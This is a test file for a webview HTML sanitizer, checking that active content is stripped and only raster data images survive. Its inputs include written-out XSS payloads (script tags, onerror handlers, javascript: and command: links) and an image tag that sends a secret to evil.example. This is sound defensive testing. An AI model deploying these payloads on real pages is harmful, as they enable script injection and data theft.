// The second wall: whatever HTML reaches the sanitizer, no script, handler, remote load or
// non-http link survives.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';
import { createSanitizer } from '../../src/webview/sanitize';
import { renderAll } from '../../src/webview/markdownBlocks';

const { window } = new JSDOM('<!DOCTYPE html><body></body>');
const sanitizer = createSanitizer(window as unknown as Window & typeof globalThis);

test('scripts, handlers, frames, forms and styles are removed', () => {
  const html = sanitizer.toHtml(
    '<p onclick="x()">a<script>alert(1)</script><img src=x onerror=alert(1)><iframe src="https://e.example"></iframe><form action="https://e.example"><input></form><style>*{}</style><svg><script>1</script></svg><a href="javascript:alert(1)">j</a><a href="command:workbench.action.quit">c</a><a href="https://ok.example/" target="_blank">ok</a></p>',
  );
  assert.doesNotMatch(html, /script|onerror|onclick|iframe|<form|<input|<style|<svg|javascript:|command:|target=/i);
  assert.match(html, /<a href="https:\/\/ok.example\/">ok<\/a>/);
});

test('only data images of raster types keep their source', () => {
  const html = sanitizer.toHtml('<img src="https://evil.example/?q=SECRET"><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:image/png;base64,iVBORw0KGgo=">');
  assert.doesNotMatch(html, /evil\.example|svg\+xml/);
  assert.match(html, /data:image\/png;base64/);
});

test('a fragment is produced without a second parse and holds no active content', () => {
  const fragment = sanitizer.toFragment(renderAll('[x](javascript:alert(1)) <script>alert(1)</script>\n\n```html\n<script>alert(2)</script>\n```\n'));
  const container = window.document.createElement('div');
  container.append(fragment);
  assert.equal(container.querySelectorAll('script').length, 0);
  assert.equal(container.querySelector('a')?.getAttribute('href') ?? null, null);
  assert.match(container.textContent ?? '', /<script>alert\(2\)<\/script>/, 'code is shown as text');
});
